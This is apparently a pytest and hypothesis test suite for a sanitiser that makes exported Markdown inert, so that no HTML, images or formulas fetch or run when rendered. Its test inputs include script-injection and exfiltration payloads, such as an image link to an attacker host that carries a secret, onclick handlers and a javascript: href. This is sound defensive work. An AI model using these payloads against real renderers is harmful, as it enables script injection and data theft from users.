"""Exported Markdown: it looks as before, and nothing in it runs or fetches, whatever renders it."""

from __future__ import annotations

import time

import mistune
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from chatanywhere_magic.export.inert import blocks, inert
from tests.support.examples import examples

RENDERERS = [
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("gfm-like", {"html": True, "linkify": False}),
]
PIECES = [
    *("`", "``", "```", "```py\n", "~~~", "~~~~", "\n", "\n\n", "\r\n", "\r", " ", "   ", "     ", "\t", "a", "b "),
    *(
        "<b>",
        "</b>",
        "<img src=x>",
        "<!-- ",
        " -->",
        "<?x?>",
        "<a@b.c>",
        "<https://a.b>",
        "<",
        ">",
        "![a](b)",
        "![",
        "!",
    ),
    *(
        "[a]: b\n",
        "![a]",
        "- ",
        "1. ",
        "> ",
        "# ",
        "| ",
        "|-|-|\n",
        "$",
        "$$",
        "\\",
        "\\begin{a}",
        "\\end{a}",
        "\\(",
        "\\)",
        "&lt;",
        "* * *\n",
    ),
]
"""What Markdown's syntax is made of, and what must not come through."""


def test_in_an_environment_of_formulas_no_sign_becomes_a_command() -> None:
    assert inert("\\begin{align}\na<b \\\\\n\\end{align}\na<b") == "\\begin{align}\na< b \\\\\n\\end{align}\na\\<b"


def alive(markdown: str) -> list[str]:
    """What in a text would run or fetch."""
    found = []
    for renderer in RENDERERS:
        for token in renderer.parse(markdown):
            inner = token.children or []
            found += [each.type for each in (token, *inner) if each.type in {"html_block", "html_inline", "image"}]
    tokens = mistune.create_markdown(renderer=None, plugins=["table"])(markdown)
    return found + alive_in_mistune(tokens)


def alive_in_mistune(tokens: list[dict[str, object]]) -> list[str]:
    found = []
    for token in tokens:
        if token["type"] in {"block_html", "inline_html", "image"}:
            found.append(str(token["type"]))
        found += alive_in_mistune(token.get("children") or [])
    return found


@settings(max_examples=examples(1500))
@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_nothing_is_alive(markdown: str) -> None:
    assert alive(inert(markdown)) == []


@pytest.mark.parametrize(
    "markdown",
    [
        "<script>alert(1)</script>",
        "![](https://attacker.example/?q=secret)",
        "![a][b]\n\n[b]: https://attacker.example",
        '<img src="https://attacker.example">',
        "text <b onclick=x>y</b>",
        "\\\\<b>",
        "\\![a](b)",
        "` \n<img src=x> `",
        "a `\nb` <img src=x> ` z `",
        "| a ` | <img src=x> ` |\n|-|-|",
        "1. a\n   ```\n<img src=x>\n   ```",
        "- ```\n<img src=x>\n```",
        "> ```\n<img src=x>\n> ```",
        "text ```\n     ```\n     <img src=x>\n     ```",
        "text `\n     ```\n     a ` <img src=x>\n     ```",
        "```\n``` <img src=x>\n```\n<img src=x>",
        "```a`b\n<img src=x>\n```",
        "~~~\n```\n<img src=x>\n~~~\n<img src=x>",
        "    ```\n<img src=x>",
        "<!-- `-->` <img src=x> `",
    ],
)
def test_known_ways_to_come_through(markdown: str) -> None:
    assert alive(markdown) or "`" in markdown or "\\" in markdown
    assert alive(inert(markdown)) == []


@pytest.mark.parametrize(
    "markdown",
    [
        "# Title\n\nWords, *emphasis*, [a link](https://example.com).\n",
        "Is 1 < 2, or 2 > 1? $x < y$ and a <- b\n",
        "Use `List<int>` or ``a ` <b>``.",
        "```html\n<b>bold</b>\n![a](b)\n```\n",
        "~~~~ cpp\n#include <vector>\n~~~\n~~~~\n",
        "1. First\n   ```html\n   <b>\n\n   </b>\n   ```\n2. Second",
        "Already \\<b> and \\![a](b)",
        "Wow!\n\n[link](x)",
        "````\n```\n<b>\n```\n````",
    ],
)
def test_what_is_harmless_stays_as_it_is(markdown: str) -> None:
    assert inert(markdown) == markdown


@pytest.mark.parametrize(
    ("markdown", "taken_apart"),
    [
        ("Say <b>hi</b>", "Say \\<b>hi\\</b>"),
        ("![cat](https://x/cat.png)", "!\\[cat](https://x/cat.png)"),
        (r"$\href{javascript:x}{y}$ and \\href", r"$\ href{javascript:x}{y}$ and \\href"),
        ("It is $a<b$, \\(a<b\\)", "It is $a< b$, \\(a< b\\)"),
        ("```python\nprint(1", "```python\nprint(1\n```"),
        ("a\r\nb\rc", "a\nb\nc"),
    ],
)
def test_how_it_is_taken_apart(markdown: str, taken_apart: str) -> None:
    assert inert(markdown) == taken_apart


@given(st.lists(st.sampled_from(PIECES), max_size=25).map("".join))
def test_once_is_enough(markdown: str) -> None:
    once = inert(markdown)
    assert inert(once) == once


def test_blocks_know_their_language() -> None:
    found = blocks("Text\n```Python title=x\n1\n```\n~~~\n2\n~~~\nmore\n```")
    assert [(block.language, block.lines) for block in found] == [
        (None, ["Text"]),
        ("python", ["1"]),
        ("", ["2"]),
        (None, ["more"]),
        ("", []),
    ]


@pytest.mark.slow
@pytest.mark.parametrize("piece", PIECES)
def test_long_texts_take_time_with_their_length(piece: str) -> None:
    def seconds(length: int) -> float:
        begun = time.thread_time()
        inert(piece * (length // len(piece)))
        inert((piece + "\n") * (length // 2 // len(piece)))
        return time.thread_time() - begun

    # Eight times the text: about 8 times the work if it is linear, 64 times if it is quadratic; and what takes less
    # than half a second is neither.
    assert min(seconds(40_000) for _ in range(3)) < 24 * min(seconds(5_000) for _ in range(3)) + 0.5
